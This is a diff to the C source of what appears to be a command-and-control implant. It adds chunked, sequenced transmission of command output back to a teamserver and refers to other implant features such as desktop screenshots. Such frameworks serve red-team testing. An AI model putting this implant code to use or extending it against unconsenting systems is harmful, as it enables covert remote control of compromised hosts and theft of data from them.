@@ -3,6 +3,7 @@
 #include <core/Win32.h>
 #include <core/MiniStd.h>
 #include <core/Package.h>
+#include <core/ObjectApi.h>
 #include <core/Syscalls.h>
 #include <common/Macros.h>
 #include <common/Native.h>
@@ -996,10 +997,14 @@ BOOL AnonPipesInit(
  * sends the result back to the teamserver
  * @param AnonPipes
  * @param RequestID
+ * @param Sequence sequence of the partial output already
+ *                 sent for the request. if specified the
+ *                 output is sent as the final chunk of it
  */
 VOID AnonPipesRead(
-    IN PANONPIPE AnonPipes,
-    IN UINT32 RequestID
+    IN     PANONPIPE AnonPipes,
+    IN     UINT32    RequestID,
+    IN OUT PUINT32   Sequence
 ) {
     PPACKAGE Package         = NULL;
     BOOL     Success         = FALSE;
@@ -1034,7 +1039,10 @@ VOID AnonPipesRead(
         MemSet( buf, 0, dwRead );
     } while ( Success == TRUE );
 
-    if ( dwBufferSize ) {
+    if ( Sequence ) {
+        /* always close the stream, even without any output left */
+        OutputPartial( RequestID, Sequence, Buffer, dwBufferSize, TRUE );
+    } else if ( dwBufferSize ) {
         Package = PackageCreateWithRequestID( DEMON_OUTPUT, RequestID );
         PackageAddBytes( Package, Buffer, dwBufferSize );
         PackageTransmit( Package );
@@ -1043,6 +1051,36 @@ VOID AnonPipesRead(
     DATA_FREE( Buffer, dwBufferSize );
 }
 
+/*!
+ * sends an ordered chunk of the output of a
+ * request that is still running
+ * @param RequestID request the output belongs to
+ * @param Sequence sequence of the chunk. incremented after sending
+ * @param Buffer output of the chunk
+ * @param Size size of the chunk
+ * @param Final no more chunks follow
+ */
+VOID OutputPartial(
+    IN     UINT32  RequestID,
+    IN OUT PUINT32 Sequence,
+    IN     PVOID   Buffer,
+    IN     DWORD   Size,
+    IN     BOOL    Final
+) {
+    PPACKAGE Package = NULL;
+
+    PRINTF( "Partial output => RequestID:[%x] Sequence:[%d] Size:[%d] Final:[%d]\n", RequestID, *Sequence, Size, Final )
+
+    Package = PackageCreateWithRequestID( BEACON_OUTPUT, RequestID );
+    PackageAddInt32( Package, CALLBACK_OUTPUT_PARTIAL );
+    PackageAddInt32( Package, *Sequence );
+    PackageAddInt32( Package, Final );
+    PackageAddBytes( Package, Buffer, Size );
+    PackageTransmit( Package );
+
+    *Sequence += 1;
+}
+
 /*!
  * takes a BMP screenshot of the current desktop
  * @param ImagePointer